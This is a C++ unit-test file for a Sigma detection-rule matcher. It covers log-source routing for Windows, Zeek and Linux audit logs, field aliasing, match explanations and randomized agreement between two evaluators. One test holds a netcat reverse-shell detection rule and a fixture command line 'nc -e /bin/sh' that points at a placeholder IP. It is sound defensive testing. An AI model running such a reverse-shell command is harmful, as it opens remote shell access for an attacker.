// SPDX-License-Identifier: Apache-2.0
#include "detect/sigma/matcher.h"

#include <gtest/gtest.h>

#include <random>

#include "base/counter.h"
#include "detect/sigma/engine.h"
#include "detect/sigma/log_source.h"
#include "detect/sigma/rules_for_tests.h"

namespace picket::detect::sigma {
namespace {

event::LogOrigin sysmon(uint32_t id) {
  return {"windows", "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", id, ""};
}

TEST(LogSource, WindowsCategoriesAreChannelAndEventId) {
  auto standard = SourceTable::kStandard;
  EXPECT_TRUE(belongs(sysmon(1), {"windows", "process_creation", ""}, standard));
  EXPECT_FALSE(belongs(sysmon(3), {"windows", "process_creation", ""}, standard));
  EXPECT_FALSE(belongs(sysmon(1), {"linux", "process_creation", ""}, standard));
  EXPECT_TRUE(belongs(sysmon(13), {"windows", "registry_event", ""}, standard));
  EXPECT_TRUE(belongs(sysmon(13), {"windows", "", "sysmon"}, standard));
  EXPECT_TRUE(belongs(sysmon(13), {"", "", ""}, standard));
  event::LogOrigin security{"windows", "security", "", 4688, ""};
  EXPECT_TRUE(belongs(security, {"windows", "process_creation", ""}, standard));
  EXPECT_TRUE(belongs(security, {"windows", "", "security"}, standard));
  security.event_id = 5156;
  EXPECT_FALSE(belongs(security, {"windows", "network_connection", ""}, standard));
  EXPECT_TRUE(belongs(security, {"windows", "network_connection", ""},
                      SourceTable::kWithFilteringPlatform));
}

TEST(LogSource, OthersByNameOrCategory) {
  auto standard = SourceTable::kStandard;
  EXPECT_TRUE(belongs({"zeek", "dns", "", 0, ""}, {"zeek", "", "dns"}, standard));
  EXPECT_TRUE(belongs({"zeek", "dns", "", 0, ""}, {"", "dns", ""}, standard));
  EXPECT_FALSE(belongs({"zeek", "dns", "", 0, ""}, {"", "proxy", ""}, standard));
  EXPECT_TRUE(belongs({"linux", "", "", 0, "network_connection"},
                      {"linux", "network_connection", ""}, standard));
  EXPECT_TRUE(belongs({"django", "", "", 0, ""}, {"django", "application", ""}, standard));
  EXPECT_TRUE(belongs({"linux", "auth", "sshd", 0, ""}, {"linux", "", "sshd"}, standard));
}

TEST(Matcher, FieldsUnderOtherNames) {
  BothWays both(
      "title: t\nlogsource: {product: windows, category: process_creation}\ndetection:\n"
      "  s: {Image|endswith: '\\cmd.exe', IntegrityLevel: High, EventID: 4688, Threat Name: x}\n  "
      "condition: s\n");
  event::LogRecord record;
  record.origin = {"windows", "Security", "", 4688, ""};
  record.add("NewProcessName", "C:\\cmd.exe");
  record.add("MandatoryLabel", "S-1-16-12288");
  record.add("ThreatName", "X");
  EXPECT_TRUE(both.matches(record));
  record.origin.event_id = 4689;
  EXPECT_FALSE(both.matches(record));
}

TEST(Matcher, ProcessesOfTheLinuxAuditLog) {
  BothWays both(
      "title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n"
      "  s: {Image|endswith: /nc, CommandLine|contains: ' -e ', User: root}\n  condition: s\n");
  event::LogRecord record;
  record.origin = {"linux", "auditd", "", 0, "process_creation"};
  record.add("exe", "/usr/bin/nc");
  record.add("proctitle", "nc -e /bin/sh 203.0.113.9");
  record.add("UID", "root");
  EXPECT_TRUE(both.matches(record));
  record.origin.category = "";
  EXPECT_FALSE(both.matches(record)) << "another kind of audit record";
}

TEST(Matcher, ExplainsWhatMatched) {
  BothWays both(
      rule_around("  sel: {F|contains: [abc, xyz]}\n  other: {G: 1}\n  not_this: {H: 1}\n"
                  "  condition: (sel or other) and not not_this\n"));
  event::LogRecord record;
  fill(record, {{"F", "__xyz__"}, {"G", "2"}});
  ASSERT_TRUE(both.matches(record));
  auto evidence = both.plain().explain(0, record);
  ASSERT_EQ(evidence.size(), 1u);
  EXPECT_EQ(evidence[0].selection, "sel");
  EXPECT_EQ(evidence[0].field, "F");
  EXPECT_EQ(evidence[0].value, "__xyz__");
}

TEST(Matcher, RulesWithoutATriggerAreStillAsked) {
  BothWays both(rule_around("  s: {F: x}\n  condition: not s\n"));
  EXPECT_TRUE(both.matches({{"F", "y"}}));
  EXPECT_FALSE(both.matches({{"F", "x"}}));
  EXPECT_EQ(both.program().size().rules_without_trigger, 1u);
}

TEST(Matcher, ManyLiteralsInOnePass) {
  std::string list;
  for (int i = 0; i < 500; ++i) list += "needle" + std::to_string(i) + "x, ";
  BothWays both(rule_around("  s: {F|contains: [" + list +
                            "]}\n  e: {F|endswith: tail}\n  condition: s and not e\n"));
  EXPECT_TRUE(both.matches({{"F", "hay NEEDLE377X hay"}}));
  EXPECT_FALSE(both.matches({{"F", "hay needle377 hay"}}));
  EXPECT_FALSE(both.matches({{"F", "hay needle377x tail"}}));
}

TEST(Matcher, LiteralsLongerThanTheIndexHolds) {
  std::string longest(2000, 'a');
  BothWays both(
      rule_around("  s: {F|contains: ['" + longest + "b', q1, q2, q3, q4, q5]}\n  condition: s\n"));
  EXPECT_FALSE(both.matches({{"F", longest}}));
  EXPECT_TRUE(both.matches({{"F", "x" + longest + "b"}}));
}

TEST(Matcher, OriginsRememberedAreBounded) {
  BothWays both("title: t\nlogsource: {product: windows}\ndetection: {s: {F: x}, condition: s}\n");
  uint64_t before = 0, after = 0;
  before = Counter::value_of("detect.sigma.routes_full");
  event::LogRecord record;
  record.add("F", "x");
  record.origin.product = "windows";
  for (uint32_t id = 0; id <= Matcher::kRoutesMax; ++id) {
    record.origin.event_id = id;
    EXPECT_EQ(both.matcher().evaluate(record).size(), 1u);
  }
  after = Counter::value_of("detect.sigma.routes_full");
  EXPECT_EQ(after, before + 1);
}

// Random rules over a small alphabet against random records: the compiled engine and the plain
// evaluator must never differ.
TEST(Matcher, AgreesWithThePlainEvaluatorOnRandomRules) {
  std::mt19937 random(20260101);
  auto pick = [&](auto... choices) {
    std::string all[] = {choices...};
    return all[random() % (sizeof...(choices))];
  };
  auto word = [&] {
    std::string text;
    for (size_t i = 0, size = random() % 4; i < size; ++i)
      text += pick("a", "b", "A", "é", "É", "-", "*", "?", "\\", "x");
    return text;
  };
  std::string yaml;
  for (int rule = 0; rule < 400; ++rule) {
    yaml += "title: r\nlogsource: {}\ndetection:\n";
    for (const char* name : {"s1", "s2", "f1"}) {
      yaml += std::string("  ") + name + ":\n    " + pick("F", "G", "'F", "'G");
      bool quoted = yaml.back() != ' ' && yaml[yaml.size() - 2] == '\'';
      yaml += pick("|contains", "|endswith", "|startswith", "", "|contains|all", "|contains|cased",
                   "|neq", "|windash", "|fieldref");
      yaml += quoted ? "'" : "";
      yaml += ": ['" + word() + "', '" + word() + "']\n";
    }
    yaml += "  condition: " +
            pick("s1 and not f1", "1 of s*", "all of them", "s1 or s2 and not f1", "not s1") +
            "\n---\n";
  }
  RuleSet set = rules_from(yaml);
  ASSERT_GT(set.rules.size(), 300u)
      << set.report.text();  // `fieldref: ''` and the like are refused
  auto program = Program::compile(std::move(set));
  ASSERT_TRUE(program);
  auto matcher = Matcher::create(**program);
  ASSERT_TRUE(matcher);
  PlainEvaluator plain((*program)->rules());
  event::LogRecord record;
  std::vector<uint32_t> slow;
  size_t matches = 0;
  for (int i = 0; i < 500; ++i) {
    fill(record, {});
    for (size_t field = 0, count = random() % 4; field < count; ++field)
      record.add(record.keep(pick("F", "G", "H")), record.keep(word() + word()));
    auto fast = matcher->evaluate(record);
    plain.evaluate(record, slow);
    std::vector<uint32_t> differ;
    std::ranges::set_symmetric_difference(fast, slow, std::back_inserter(differ));
    ASSERT_TRUE(differ.empty()) << "record " << i << ", rule at line "
                                << (*program)->rules()[differ.front()].about.place.line << " of\n"
                                << yaml;
    matches += slow.size();
  }
  EXPECT_GT(matches, 1000u);
}

}  // namespace
}  // namespace picket::detect::sigma
